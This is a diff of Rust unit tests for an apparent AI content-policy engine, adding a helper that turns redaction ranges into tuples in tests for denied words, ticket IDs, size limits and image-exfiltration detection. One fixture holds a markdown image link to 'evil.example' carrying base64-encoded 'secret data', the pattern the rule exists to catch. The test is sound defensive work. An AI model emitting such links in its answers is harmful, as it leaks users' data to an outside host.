@@ -98,6 +98,10 @@ mod policy_rules {
         }
     }
 
+    fn places(verdict: &Verdict<'_>) -> Vec<(usize, usize)> {
+        verdict.redact.iter().map(|place| (place.start, place.end)).collect()
+    }
+
     #[test]
     fn denied_words_count_whole_and_in_any_case() {
         let policy = compiled(Settings {
@@ -133,7 +137,7 @@ mod policy_rules {
             ..Settings::default()
         });
         let verdict = policy.check("see TCK-1234 and TCK-0000", Source::User);
-        assert_eq!((verdict.rule, verdict.redact), (Some("ticket"), vec![4..12]));
+        assert_eq!((verdict.rule, places(&verdict)), (Some("ticket"), vec![(4, 12)]));
     }
 
     #[test]
@@ -160,7 +164,7 @@ mod policy_rules {
     fn size_is_in_bytes_and_cuts_between_characters() {
         let policy = compiled(Settings { largest: Some((5, Action::Redact)), ..Settings::default() });
         assert_eq!(policy.check("abcde", Source::User).action, None);
-        assert_eq!(policy.check("abcdéf", Source::User).redact, vec![4..7]);
+        assert_eq!(places(&policy.check("abcdéf", Source::User)), [(4, 7)]);
         assert_eq!(policy.check("abcdéf", Source::User).rule, Some(SIZE));
     }
 
@@ -191,7 +195,7 @@ mod policy_rules {
             ..Settings::default()
         });
         let verdict = policy.check_answer("Hi ![x](https://evil.example/a?d=c2VjcmV0IGRhdGE) there");
-        assert_eq!((verdict.rule, verdict.redact), (Some("image-exfiltration"), vec![3..49]));
+        assert_eq!((verdict.rule, places(&verdict)), (Some("image-exfiltration"), vec![(3, 49)]));
         assert_eq!(policy.check_answer("![x](https://cdn.example.com/a?d=c2VjcmV0IGRhdGE)").action, None);
     }
 }
